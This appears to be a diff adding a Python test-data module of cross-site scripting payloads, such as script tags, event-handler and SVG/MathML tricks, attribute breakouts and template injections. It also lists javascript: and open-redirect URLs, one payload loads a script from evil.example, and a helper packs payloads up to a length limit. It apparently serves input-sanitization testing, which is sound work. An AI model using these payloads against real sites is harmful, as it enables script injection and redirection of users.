@@ -1,0 +1,105 @@
+"""Texts that run a script wherever something forgets to escape, to clean or to check them."""
+
+__all__ = ["FIXED", "PAYLOADS", "fitting"]
+
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=data:,alert(1)></script>",
+    "<script src=//evil.example/x.js></script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\x0c>alert(1)</script>",
+    "<script/x>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    '<!--<img src="--><img src=x onerror=alert(1)//">',
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert`1`>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=x:x onerror=alert(1)",
+    "<IMG SRC=# onmouseover=alert(1) onerror=alert(1)>",
+    "<img src=x onerror=&#97;lert(1)>",
+    '<img src="x` `<script>alert(1)</script>"` `>',
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
+    "<svg><set onbegin=alert(1) attributename=x to=y>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<math href=javascript:alert(1)>x</math>",
+    "<body onload=alert(1)>",
+    "<body onpageshow=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video src=x onerror=alert(1)></video>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)></audio>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)></textarea>",
+    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>",
+    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>",
+    "<style>*{background:url(javascript:alert(1))}</style>",
+    "<link rel=stylesheet href=data:,*{x:expression(alert(1))}>",
+    "<base href=javascript:alert(1)//>",
+    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
+    "<form action=javascript:alert(1)><button>x</button></form>",
+    "<isindex action=javascript:alert(1) type=submit>",
+    "<a href=javascript:alert(1)>x</a>",
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    '<a href="&#1;javascript:alert(1)">x</a>',
+    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
+    "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
+    '"><img src=x onerror=alert(1)>',
+    "'><img src=x onerror=alert(1)>",
+    '"autofocus/onfocus=alert(1)//',
+    "`><img src=x onerror=alert(1)>",
+    "';alert(1)//",
+    '";alert(1)//',
+    '\\";alert(1)//',
+    "${alert(1)}",
+    "{{constructor.constructor('alert(1)')()}}",
+    "{% debug %}{{ request.META }}<img src=x onerror=alert(1)>",
+    "\u2028alert(1)//",
+    "<\x00script>alert(1)</script>".replace("\x00", "%00"),
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "＜script＞alert(1)＜/script＞",
+    "<xss id=x tabindex=1 onfocus=alert(1) autofocus></xss>",
+    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+)
+#: Addresses that run a script where one clicks: for what asks for an address.
+FIXED = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "\x01javascript:alert(1)",
+    "javascript://example.org/%0aalert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:alert(1)",
+    "//evil.example",
+    "/\\evil.example",
+    'https://example.org/"><script>alert(1)</script>',
+)
+
+
+def fitting(limit: int | None, turn: int) -> str:
+    """As many payloads as `limit` characters take (None: all of them), another choice at each `turn`."""
+    text = ""
+    for step in range(len(PAYLOADS)):
+        payload = PAYLOADS[(turn + step) % len(PAYLOADS)]
+        if limit and len(text) + len(payload) > limit:
+            break
+        text += payload
+    return text or PAYLOADS[turn % len(PAYLOADS)][:limit]
